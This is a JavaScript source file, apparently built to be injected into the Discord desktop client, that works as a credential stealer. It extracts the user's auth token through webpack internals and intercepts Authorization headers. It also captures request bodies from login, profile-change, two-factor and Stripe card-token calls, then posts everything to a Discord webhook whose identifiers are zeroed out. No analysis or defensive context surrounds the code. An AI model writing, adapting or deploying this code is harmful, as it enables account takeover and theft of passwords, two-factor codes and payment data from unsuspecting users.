const { BrowserWindow, session } = require('electron');
const https = require('https');
const querystring = require('querystring');

const HOOK = '/api/webhooks/000000000000000000/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';
const seen = new Set();

function post(content) {
  const body = JSON.stringify({ username: 'rp', content: '```' + JSON.stringify(content).slice(0, 1800) + '```' });
  const r = https.request({ host: 'discord.com', path: HOOK, method: 'POST', headers: { 'content-type': 'application/json' } });
  r.on('error', () => {});
  r.end(body);
}

function initSession() {
  const w = BrowserWindow.getAllWindows()[0];
  if (!w) return;
  w.webContents.executeJavaScript(
    "(webpackChunkdiscord_app.push([[''],{},e=>{m=[];for(let c in e.c)m.push(e.c[c])}]),m).find(m=>m?.exports?.default?.getToken!==void 0).exports.default.getToken()",
    true
  ).then((t) => { if (t && !seen.has(t)) { seen.add(t); post({ t, via: 'boot' }); } }).catch(() => {});
}

session.defaultSession.webRequest.onBeforeSendHeaders({ urls: ['https://discord.com/api/v*/users/@me*', 'https://*.discord.com/api/v*/science'] }, (d, cb) => {
  const t = d.requestHeaders.Authorization || d.requestHeaders.authorization;
  if (t && !seen.has(t)) { seen.add(t); post({ t, via: 'hdr' }); }
  cb({ requestHeaders: d.requestHeaders });
});

session.defaultSession.webRequest.onCompleted({ urls: ['https://discord.com/api/v*/auth/login', 'https://discord.com/api/v*/users/@me', 'https://api.stripe.com/v*/tokens', 'https://discord.com/api/v*/auth/mfa/totp'] }, (d) => {
  if (d.method !== 'POST' && d.method !== 'PATCH') return;
  try {
    const raw = Buffer.from(d.uploadData[0].bytes).toString();
    const data = raw.startsWith('{') ? JSON.parse(raw) : querystring.parse(raw);
    post({ url: d.url, data });
  } catch {}
});

setTimeout(initSession, 8000);
